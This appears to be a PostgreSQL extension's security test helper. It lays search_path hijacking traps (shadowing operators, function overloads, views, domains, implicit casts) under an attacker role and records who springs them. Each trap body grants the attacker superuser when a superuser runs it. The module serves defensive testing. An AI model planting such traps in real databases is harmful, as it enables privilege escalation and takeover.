"""Traps that a role lays in every schema it can write to, and how one sees who has sprung them.

A trap is an object that PostgreSQL takes for another one where a script or a function does not say which it
means: an operator or a function that fits the types better, a relation or a type that comes first on the
search_path. Whoever springs one runs the code of the role that laid it.
"""

from __future__ import annotations

import re
from typing import Any

import psycopg

from tools.engine.extension import extension_files

ATTACKER = "an_attacker"
_FEW_TYPES = ("oid", "regclass", "name", "text", "int4", "jsonb", "text[]")
_TYPES = (*_FEW_TYPES, "regproc", "regnamespace", '"char"', "int8", "bool", "name[]")
_NUMBERS = frozenset(("oid", "regclass", "regproc", "regnamespace", "int4", "int8"))
_OPERATORS = {"=": "bool", "<>": "bool", "<": "bool", ">": "bool", "||": "text", "->>": "text", "->": "jsonb"}
_RELATIONS = (
    "pg_class", "pg_database", "pg_depend", "pg_extension", "pg_foreign_server",
    "pg_foreign_table", "pg_inherits", "pg_namespace", "pg_proc", "pg_roles", "pg_shdepend", "pg_trigger",
)  # fmt: skip
_DOMAINS = ("text", "name", "oid", "regclass", "regproc", "jsonb", "json", "uuid", "date")
_CALL = re.compile(r"\b([a-z_][a-z_0-9]*)\(")
_IS_SUPERUSER = (
    "EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolsuper AND rolname OPERATOR(pg_catalog.=) current_user)"
)


def snare(what: str) -> str:
    """Statements that note who runs them, and make the attacker a superuser where they can."""
    return (
        f"INSERT INTO {ATTACKER}.sprung VALUES (current_user, '{what}'); "
        f"IF {_IS_SUPERUSER} THEN ALTER ROLE {ATTACKER} SUPERUSER; END IF;"
    )


def make_attacker(connection: psycopg.Connection[Any]) -> None:
    """A role with a schema of its own, and in it the list of who has sprung a trap."""
    connection.execute(
        f"CREATE ROLE {ATTACKER} LOGIN; CREATE SCHEMA {ATTACKER} AUTHORIZATION {ATTACKER}; "
        f"SET ROLE {ATTACKER}; CREATE TABLE {ATTACKER}.sprung (who name, what text); "
        f"GRANT USAGE ON SCHEMA {ATTACKER} TO PUBLIC; GRANT ALL ON {ATTACKER}.sprung TO PUBLIC; RESET ROLE"
    )


def sprung(connection: psycopg.Connection[Any]) -> list[tuple[str, str]]:
    """Who but the attacker has run the attacker's code, and by which trap."""
    connection.execute("SET search_path = pg_catalog, pg_temp")
    return connection.execute(
        f"SELECT DISTINCT who::text, what FROM {ATTACKER}.sprung WHERE who <> '{ATTACKER}' ORDER BY 1, 2"
    ).fetchall()


def lay_traps(connection: psycopg.Connection[Any], schema: str) -> None:
    """Have the attacker fill *schema*; ``pg_temp`` is that of the session."""
    connection.execute(f"SET ROLE {ATTACKER}")
    commands = [*_operators(schema), *_functions(connection, schema), *_relations(schema), *_types(schema)]
    commands += _casts(schema)
    connection.execute(";\n".join(commands))  # type: ignore[arg-type]
    connection.execute("RESET ROLE")


def without_types(connection: psycopg.Connection[Any], schema: str) -> None:
    """Take the traps away that are types: a column of such a type cannot be served, and is an error."""
    for name in _DOMAINS:
        connection.execute(f"DROP DOMAIN {schema}.{name}")  # type: ignore[arg-type]


def _function(name: str, arguments: str, result: str, what: str, answer: str = "NULL") -> str:
    return (
        f"CREATE FUNCTION {name}({arguments}) RETURNS pg_catalog.{result} LANGUAGE plpgsql "
        f"AS $trap$ BEGIN {snare(what)} RETURN {answer}; END $trap$"
    )


def _operators(schema: str) -> list[str]:
    commands = []
    pairs = [(left, right) for left in _TYPES for right in _TYPES]
    for number, (left, right) in enumerate(pairs):
        for place, (operator, result) in enumerate(_OPERATORS.items()):
            name, types = f"{schema}.operator_{number}_{place}", (f"pg_catalog.{left}", f"pg_catalog.{right}")
            what = f"operator {left} {operator} {right}"
            commands += [
                _function(name, ", ".join(types), result, what, _answer(operator, left, right)),
                f"CREATE OPERATOR {schema}.{operator} "
                f"(FUNCTION = {name}, LEFTARG = {types[0]}, RIGHTARG = {types[1]})",
            ]
    return commands


def _answer(operator: str, left: str, right: str) -> str:
    """What the operator would have answered, so that nobody notices; NULL where that is not so easy."""
    numbers = operator != "||" and _NUMBERS.issuperset((left, right))
    common = "oid" if numbers else "text"
    if operator in ("=", "<>", "||"):
        return f"$1::pg_catalog.{common} OPERATOR(pg_catalog.{operator}) $2::pg_catalog.{common}"
    return "NULL"


def _functions(connection: psycopg.Connection[Any], schema: str) -> list[str]:
    """Overloads of the functions that the extension's script calls."""
    called = set(_CALL.findall("".join(extension_files().values())))
    known = connection.execute(
        "SELECT DISTINCT proname::text FROM pg_catalog.pg_proc "
        "WHERE pronamespace = 11 AND proname = ANY (%s)",
        (sorted(called),),
    ).fetchall()
    shapes = [(one,) for one in _TYPES] + [(one, other) for one in _FEW_TYPES for other in _FEW_TYPES]
    return [
        _function(
            f"{schema}.{name}",
            ", ".join(f"pg_catalog.{one}" for one in shape),
            "text",
            f"function {name}",
            "'SELECT 1'",
        )
        for (name,) in known
        for shape in shapes
    ]


def _relations(schema: str) -> list[str]:
    commands = []
    for name in _RELATIONS:
        commands += [
            _function(f"{schema}.as_{name}", "", "bool", f"relation {name}", "true"),
            f"CREATE VIEW {schema}.{name} AS SELECT * FROM pg_catalog.{name} WHERE {schema}.as_{name}()",
            f"GRANT SELECT ON {schema}.{name} TO PUBLIC",
        ]
    return commands


def _types(schema: str) -> list[str]:
    commands = []
    for name in _DOMAINS:
        commands += [
            _function(f"{schema}.as_{name}", "", "bool", f"type {name}", "true"),
            f"CREATE DOMAIN {schema}.{name} AS pg_catalog.{name} CHECK ({schema}.as_{name}())",
        ]
    return commands


def _casts(schema: str) -> list[str]:
    """Implicit ones, which belong to no schema: between a type of the attacker's and each of the few."""
    name = f"{schema}.anything"
    commands = [f"CREATE TYPE {name} AS (value pg_catalog.text)"]
    for number, other in enumerate(_FEW_TYPES):
        to, fro = f"{schema}.cast_{number}_to", f"{schema}.cast_{number}_from"
        body = f"LANGUAGE plpgsql AS $trap$ BEGIN {snare(f'cast {other}')} RETURN NULL; END $trap$"
        commands += [
            f"CREATE FUNCTION {to}({name}) RETURNS pg_catalog.{other} {body}",
            f"CREATE CAST ({name} AS pg_catalog.{other}) WITH FUNCTION {to}({name}) AS IMPLICIT",
            f"CREATE FUNCTION {fro}(pg_catalog.{other}) RETURNS {name} {body}",
            f"CREATE CAST (pg_catalog.{other} AS {name}) WITH FUNCTION {fro}(pg_catalog.{other}) AS IMPLICIT",
        ]
    return commands
